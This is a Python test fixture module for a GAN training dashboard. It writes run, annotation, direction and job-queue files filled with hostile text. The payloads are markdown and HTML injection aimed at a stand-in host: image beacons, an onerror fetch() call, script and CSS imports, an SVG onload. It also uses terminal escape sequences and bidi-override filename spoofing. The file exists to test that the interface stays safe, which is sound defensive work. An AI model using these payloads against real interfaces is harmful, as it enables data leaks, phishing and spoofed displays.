"""What others may write where a name, a note or a reason is expected; each asks a host that must never be asked."""

import copy
import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from dashboard.shared.session.keys import PARAMETERS
from gan_core.errors import AtlasError
from gan_core.jobs.job import QueuedJob, TrainJob
from gan_core.jobs.queue import QUEUE
from gan_core.runs.annotations import FILE, annotate
from gan_core.runs.directions import LONGEST_NAME, described, save_directions
from gan_core.runs.run import open_run

HOST = "evil.example"
HOSTILE = (
    f"![picture](http://{HOST}/p.png) [log in](http://{HOST}/login)",
    f"![n](https:{HOST})",
    f'<img src="http://{HOST}/i.png" onerror="fetch(`http://{HOST}/x`)"><a href="http://{HOST}">log in</a>',
    f'<script src="//{HOST}/s.js"></script><style>@import "http://{HOST}/s.css";</style>',
    f"http://{HOST}/bare www.{HOST} someone@{HOST} <https://{HOST}/angle>",
    f"[log in][1]\n\n[1]: http://{HOST}/reference",
    "`![a](http://evil.example/code)` ``` ~~~ # title | table | :red[red] :material/warning: :smile: $x^2$ -> <b>b</b>",
    f'"><svg onload=alert(1)><image href="http://{HOST}/v.svg"></svg>',
    f"](http://{HOST}/close) **![b](http://{HOST}/b.png)**",
    f"\\![backslash](http://{HOST}/bs.png) \\[log in](http://{HOST}/bs)",
    f"\x1b]8;;http://{HOST}\x1b\\log in\x1b]8;;\x1b\\ \x1b[2J\x1b[31m\x07\x00\u202egnp.exe\u2066 \u2028line\x9b31m",
    f"%{{x}} <a href='http://{HOST}/plotly'>log in</a> $\\href{{http://{HOST}}}{{x}}$",
    "x" * 5000,
)

# a folder's name holds no slash
FOLDERS = (
    f"![n](https:{HOST})",
    f"<img src=x onerror=fetch('https:{HOST}')><b>www.{HOST}<b>",
    f"[log in](mailto:someone@{HOST}) :red[red] $x$",
    "a\x1b[2J\x1b]0;owned\x07\u202egnp",
)


def leaves(document: Any, path: tuple = ()) -> Iterator[tuple]:
    """The ways to all texts in a JSON document; an empty field may hold a text too."""
    if isinstance(document, str) or document is None:
        yield path
    elif isinstance(document, dict | list):
        for key, value in document.items() if isinstance(document, dict) else enumerate(document):
            yield from leaves(value, (*path, key))


def changed(document: Any, path: tuple, text: str) -> Any:
    """A JSON document with another text at the end of a path."""
    document = inner = copy.deepcopy(document)
    for key in path[:-1]:
        inner = inner[key]
    inner[path[-1]] = text
    return document


def hostile_runs(root: Path, original: Path, measured: Path, text: str) -> list[str]:
    """Make runs that hold a text wherever their schema lets it, and one for each place where it does not.

    Args:
        root: Folder of the runs, new.
        original: A finished run, which is copied.
        measured: A quality.jsonl of format 2.
        text: What is written.

    Returns:
        Names of those that can be opened.
    """
    info = json.loads((original / "run.json").read_text())
    accepted = info | {"status": "failed"}
    for number, path in enumerate(leaves(info)):
        broken = root / f"broken{number} {FOLDERS[number % len(FOLDERS)]}"
        broken.mkdir(parents=True)
        (broken / "run.json").write_text(json.dumps(changed(info, path, text)))
        try:
            open_run(broken)
        except AtlasError:
            shutil.copy(original / "manifest.json", broken)
        else:
            shutil.rmtree(broken)
            accepted = changed(accepted, path, text) if path != ("status",) else accepted
    records = [json.loads(line) for line in measured.read_text().splitlines()]
    for path in leaves(records[-1]):
        if path[0] != "values" and "classes" not in path:
            records[-1] = changed(records[-1], path, text)
    for name in FOLDERS:
        folder = root / name
        shutil.copytree(original, folder)
        annotate(folder, note=text[:2000], starred=True)
        _hostile_directions(folder, text)
        (folder / "run.json").write_text(json.dumps(accepted))
        (folder / "quality.jsonl").write_text("".join(json.dumps(record) + "\n" for record in records))
    unread = root / f"unread {FOLDERS[0]}"
    shutil.copytree(original, unread)
    (unread / FILE).write_text(json.dumps({"format": 1, "note": 1, text: text}))
    (unread / "metrics.jsonl").write_text(json.dumps({"step": text}) + "\n")
    (unread / "quality.jsonl").write_text(json.dumps({text: text}) + "\n")
    shutil.copytree(original, root / ".trash" / f"{FOLDERS[0]}-20260101T000000000000")
    _hostile_queue(root / QUEUE, text)
    return list(FOLDERS)


def _hostile_directions(folder: Path, text: str) -> None:
    """Named directions beside a run."""
    run = open_run(folder)
    size = run.info.config.network.latent_size
    found = [
        described(run, run.steps()[-1], name[: LONGEST_NAME - 10], text, [1.0] + [0.0] * (size - 1))
        for name in HOSTILE[:9]
    ]
    save_directions(run, found)


def _hostile_queue(place: Path, text: str) -> None:
    """A job that waits and cannot be read, and one that has ended: what their files and its process say."""
    (place / "waiting").mkdir(parents=True)
    unread = {"format": 1, "asked": 1, "job": {"action": "resume", "name": text}, text: text}
    (place / "waiting" / f"{FOLDERS[0]}.json").write_text(json.dumps(unread))
    ended = place / "started" / FOLDERS[2]
    ended.mkdir(parents=True)
    job = TrainJob(name=FOLDERS[2], recipe=text[:200], steps=1)
    (ended / "job.json").write_text(QueuedJob(asked=1, job=job).model_dump_json())
    (ended / "log").write_text(text)


def address_parameters() -> list[str]:
    """Every parameter of an address."""
    return sorted({parameter.name for parameter in PARAMETERS})
